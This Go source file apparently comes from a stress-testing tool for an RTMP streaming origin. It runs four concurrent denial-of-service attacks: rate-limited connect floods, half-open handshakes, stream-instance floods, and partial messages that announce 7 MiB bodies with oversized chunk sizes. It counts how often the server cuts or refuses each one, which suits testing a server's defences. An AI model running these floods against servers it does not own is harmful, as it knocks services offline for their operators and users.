package main

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/fmsgo/fmsgo/core/rtmpclient"
)

// floodStats counts what each attack achieved; refused means the origin closed or refused the
// socket before it got what it asked for.
type floodStats struct {
	wg sync.WaitGroup

	connectTried, connectOK, connectRefused atomic.Int64
	halfOpenHeld, halfOpenCut               atomic.Int64
	instTried, instOK, instRefused          atomic.Int64
	partialTried, partialCut                atomic.Int64
	partialBytes                            atomic.Int64
}

func (s *floodStats) wait() { s.wg.Wait() }

func (s *floodStats) summary() string {
	return fmt.Sprintf("connects %d tried / %d accepted / %d refused; half-open %d opened / %d cut by the origin; "+
		"instances %d tried / %d accepted / %d refused; partial-message sockets %d opened / %d cut, %.1f MiB sent",
		s.connectTried.Load(), s.connectOK.Load(), s.connectRefused.Load(), s.halfOpenHeld.Load(), s.halfOpenCut.Load(),
		s.instTried.Load(), s.instOK.Load(), s.instRefused.Load(), s.partialTried.Load(), s.partialCut.Load(),
		mib(s.partialBytes.Load()))
}

// flood starts the four attacks from o.floodAddr; they run until ctx ends.
func flood(ctx context.Context, addr string, o options) *floodStats {
	s := &floodStats{}
	local := &net.TCPAddr{IP: net.ParseIP(o.floodAddr)}
	s.run(func() { connectFlood(ctx, addr, local, o.connectRate, s) })
	s.run(func() { holdMany(ctx, o.halfOpen, func(int) { halfOpen(ctx, addr, local, s) }) })
	s.run(func() { instanceFlood(ctx, addr, local, o.instances, s) })
	s.run(func() { holdMany(ctx, o.partial, func(i int) { partialMessage(ctx, addr, local, i%2 == 1, s) }) })
	return s
}

func (s *floodStats) run(f func()) {
	s.wg.Add(1)
	go func() { defer s.wg.Done(); f() }()
}

// holdMany keeps n copies of attack running until ctx ends: each reopens when the origin cuts it.
func holdMany(ctx context.Context, n int, attack func(i int)) {
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for ctx.Err() == nil {
				attack(i)
			}
		}(i)
	}
	wg.Wait()
}

// connectFlood attempts full RTMP connects to probe at rate per second, each closed at once.
func connectFlood(ctx context.Context, addr string, local net.Addr, rate int, s *floodStats) {
	if rate <= 0 {
		return
	}
	inFlight := make(chan struct{}, 512)
	tick := time.NewTicker(time.Second / time.Duration(rate))
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		select {
		case inFlight <- struct{}{}:
		default:
			s.connectTried.Add(1) // the attacker's own limit: counted as an attempt the origin never saw
			continue
		}
		s.connectTried.Add(1)
		go func() {
			defer func() { <-inFlight }()
			dialProbe(ctx, addr, "probe", local, &s.connectOK, &s.connectRefused)
		}()
	}
}

// instanceFlood connects once to each of n new instance names of probe.
func instanceFlood(ctx context.Context, addr string, local net.Addr, n int, s *floodStats) {
	sem := make(chan struct{}, 32)
	var wg sync.WaitGroup
	for i := 0; i < n && ctx.Err() == nil; i++ {
		sem <- struct{}{}
		wg.Add(1)
		s.instTried.Add(1)
		go func(i int) {
			defer func() { <-sem; wg.Done() }()
			dialProbe(ctx, addr, fmt.Sprintf("probe/flood%d", i), local, &s.instOK, &s.instRefused)
		}(i)
	}
	wg.Wait()
}

func dialProbe(ctx context.Context, addr, path string, local net.Addr, ok, refused *atomic.Int64) {
	c, err := rtmpclient.Dial(ctx, "rtmp://"+addr+"/"+path, rtmpclient.Options{LocalAddr: local, Timeout: 5 * time.Second})
	if err != nil {
		if ctx.Err() == nil {
			refused.Add(1)
		}
		return
	}
	ok.Add(1)
	c.Close()
}

// halfOpen sends C0 and half of C1, then waits for the origin to give up on it (or the flood to end).
func halfOpen(ctx context.Context, addr string, local net.Addr, s *floodStats) {
	nc, err := dialRaw(ctx, addr, local)
	if err != nil {
		pause(ctx)
		return
	}
	defer nc.Close()
	s.halfOpenHeld.Add(1)
	c1 := make([]byte, 1+768)
	c1[0] = 3
	if _, err := nc.Write(c1); err != nil {
		s.halfOpenCut.Add(1)
		return
	}
	if waitCut(ctx, nc) {
		s.halfOpenCut.Add(1)
	}
}

// partialMessage completes the handshake, then announces a 7 MiB command message on chunk stream
// 3 before connect. The paying kind (pay) sets a 64 KiB chunk size and sends up to 1 MiB of the
// message; the other sets an 8 MiB chunk size and sends ten bytes, which costs the attacker
// nothing unless the origin sizes its buffer by what was announced.
func partialMessage(ctx context.Context, addr string, local net.Addr, pay bool, s *floodStats) {
	nc, err := dialRaw(ctx, addr, local)
	if err != nil {
		pause(ctx)
		return
	}
	defer nc.Close()
	s.partialTried.Add(1)
	if err := handshake(nc); err != nil {
		s.partialCut.Add(1)
		return
	}
	chunkSize, total := 8<<20, 10
	if pay {
		chunkSize, total = 64<<10, 1<<20
	}
	if err := sendPartial(ctx, nc, chunkSize, total, s); err != nil {
		s.partialCut.Add(1)
		return
	}
	if waitCut(ctx, nc) {
		s.partialCut.Add(1)
	}
}

// sendPartial writes Set Chunk Size, a message header announcing 7 MiB, and total bytes of its
// body in chunks of chunkSize.
func sendPartial(ctx context.Context, nc net.Conn, chunkSize, total int, s *floodStats) error {
	setChunk := []byte{0x02, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(setChunk[12:], uint32(chunkSize))
	hdr := []byte{0x03, 0, 0, 0, 0x70, 0, 0, 20, 0, 0, 0, 0} // fmt 0, csid 3, 7 MiB, AMF0 command
	if _, err := nc.Write(append(setChunk, hdr...)); err != nil {
		return err
	}
	body := make([]byte, min(chunkSize, total)+1)
	for sent := 0; sent < total && ctx.Err() == nil; {
		n := min(chunkSize, total-sent)
		out := body[1 : 1+n]
		if sent > 0 {
			body[0] = 0xC3 // fmt 3 continuation of chunk stream 3
			out = body[:1+n]
		}
		_ = nc.SetWriteDeadline(time.Now().Add(time.Second))
		if _, err := nc.Write(out); err != nil {
			return err
		}
		sent += n
		s.partialBytes.Add(int64(n))
	}
	return nil
}

func dialRaw(ctx context.Context, addr string, local net.Addr) (net.Conn, error) {
	d := net.Dialer{LocalAddr: local, Timeout: 5 * time.Second}
	return d.DialContext(ctx, "tcp", addr)
}

// handshake is the plain RTMP handshake: C0 C1, read S0 S1 S2, echo S1 as C2.
func handshake(nc net.Conn) error {
	_ = nc.SetDeadline(time.Now().Add(5 * time.Second))
	defer nc.SetDeadline(time.Time{})
	c := make([]byte, 1+1536)
	c[0] = 3
	binary.BigEndian.PutUint32(c[1:], uint32(time.Now().Unix()))
	_, _ = rand.Read(c[9:])
	if _, err := nc.Write(c); err != nil {
		return err
	}
	s := make([]byte, 1+1536+1536)
	if _, err := io.ReadFull(nc, s); err != nil {
		return err
	}
	_, err := nc.Write(s[1 : 1+1536])
	return err
}

// waitCut blocks until the origin closes nc (true) or ctx ends (false).
func waitCut(ctx context.Context, nc net.Conn) bool {
	cut := make(chan struct{})
	go func() {
		_, _ = io.Copy(io.Discard, nc)
		close(cut)
	}()
	select {
	case <-cut:
		return true
	case <-ctx.Done():
		nc.Close()
		<-cut
		return false
	}
}

// pause backs a failing attacker off briefly, so that a refused dial does not spin a core.
func pause(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-time.After(50 * time.Millisecond):
	}
}
